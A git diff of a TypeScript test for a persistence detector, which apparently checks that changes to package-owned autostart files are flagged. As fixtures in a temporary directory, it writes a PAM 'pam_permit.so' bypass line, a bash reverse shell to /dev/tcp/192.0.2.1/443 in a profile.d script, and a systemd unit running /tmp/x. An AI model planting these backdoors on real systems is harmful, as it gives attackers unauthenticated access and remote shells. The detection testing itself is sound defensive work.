@@ -1,6 +1,16 @@
 import { execFileSync, spawnSync } from 'node:child_process'
 import { createHash } from 'node:crypto'
-import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import {
+  appendFileSync,
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { expect, test } from 'vitest'
@@ -8,8 +18,8 @@ import type { Finding } from '../../main/contract/alert.ts'
 import type { StateEvent } from '../../main/contract/event.ts'
 import { nodeRunCommand, type RunCommand } from '../../main/ports/run-command.ts'
 import { createPersistenceDetector } from '../../main/probe/detectors/persistence.ts'
+import { judgeOwner } from '../../main/probe/sources/state/entry-owner.ts'
 import { createPersistence } from '../../main/probe/sources/state/persistence.ts'
-import { judgeOwner } from '../../main/probe/sources/state/program-owner.ts'
 import { lookWith } from '../fakes/looking.ts'
 
 const put = (file: string, text: string) => {
@@ -60,6 +70,9 @@ test.skipIf(!hasApt)(
         for (const [path, text] of Object.entries(filesOf(name, i, version))) put(join(tree, path), text)
         const control = `Package: ${name}\nVersion: ${version}\nArchitecture: all\nMaintainer: Test <test@example.jp>\nDescription: made up\n`
         put(join(tree, 'DEBIAN/control'), control)
+        // As Debian has it: what lies in /etc is the administrator's to change.
+        const settings = Object.keys(filesOf(name, i, version)).filter((path) => path.startsWith('etc/'))
+        put(join(tree, 'DEBIAN/conffiles'), settings.map((path) => `/${path}\n`).join(''))
         mkdirSync(repository, { recursive: true })
         const file = join(repository, `${name}.deb`)
         execFileSync('dpkg-deb', ['--root-owner-group', '-Znone', '--build', tree, file], { stdio: 'pipe' })
@@ -110,12 +123,14 @@ test.skipIf(!hasApt)(
       ...nodeRunCommand,
       run: (file, args, limits) => nodeRunCommand.run(file, [`--admindir=${admin}`, ...args], limits),
     }
-    const judged = await Promise.all(
-      events.map(async (e) => ({
-        ...e,
-        details: { ...e.details, ...(await judgeOwner(run, 'linux', e.details)) },
-      })),
-    )
+    const judge = (seen: readonly StateEvent[]) =>
+      Promise.all(
+        seen.map(async (e) => ({
+          ...e,
+          details: { ...e.details, ...(await judgeOwner(run, 'linux', e.details, { root })) },
+        })),
+      )
+    const judged = await judge(events)
     expect(new Set(judged.map((e) => e.details.row))).toEqual(new Set([34, 36, 37, 39, 41, 44, 45]))
     expect(judged.every((e) => e.action === 'changed' && e.details.trust === 'trusted')).toBe(true)
     expect(told(judged)).toMatchObject([
@@ -124,7 +139,34 @@ test.skipIf(!hasApt)(
 
     // The same change by a hand, where installers have no business, is no upgrade.
     put(join(root, 'etc/pam.d/by-hand'), 'auth sufficient pam_permit.so\n')
-    expect(told(await look()).map((f) => f.kind)).toEqual(['autostart-suspicious'])
+    expect(told(await judge(await look())).map((f) => f.kind)).toEqual(['autostart-suspicious'])
+
+    // Nor is one in a package's own file: that its path is known says nothing of what stands in it.
+    appendFileSync(join(root, 'etc/pam.d/office-part-0'), 'auth sufficient pam_permit.so\n')
+    appendFileSync(join(root, 'etc/profile.d/office-part-3.sh'), 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n')
+    appendFileSync(join(root, 'usr/lib/systemd/system/office-part-1.service'), 'ExecStart=/tmp/x\n')
+    const tampered = await judge(await look())
+    expect(tampered.map((e) => [e.subject, e.details.trust, e.details.owner])).toEqual([
+      ['/usr/lib/systemd/system/office-part-1.service', 'none', 'package office-part-1, changed since'],
+      ['/etc/profile.d/office-part-3.sh', 'none', 'package office-part-3, changed since'],
+      ['/etc/pam.d/office-part-0', 'none', 'package office-part-0, changed since'],
+    ])
+    expect(told(tampered).map((f) => f.kind)).toEqual(Array(3).fill('autostart-suspicious'))
+
+    // An administrator who sets the hour of a job is told quietly.
+    put(join(root, 'etc/cron.d/office-part-2'), '0 5 * * * root /usr/bin/office-part-2\n')
+    expect(told(await judge(await look())).map((f) => f.kind)).toEqual(['autostart-changed'])
+
+    // A unit that is switched on is a link to what its package brought.
+    const wants = join(root, 'etc/systemd/system/multi-user.target.wants')
+    mkdirSync(wants, { recursive: true })
+    symlinkSync('/usr/lib/systemd/system/office-part-5.service', join(wants, 'office-part-5.service'))
+    symlinkSync(
+      join(root, 'usr/lib/systemd/system/office-part-6.service'),
+      join(wants, 'office-part-6.service'),
+    )
+    const links = await judge(await look())
+    expect(links.map((e) => e.details.trust)).toEqual(['none', 'trusted'])
   },
   120_000,
 )
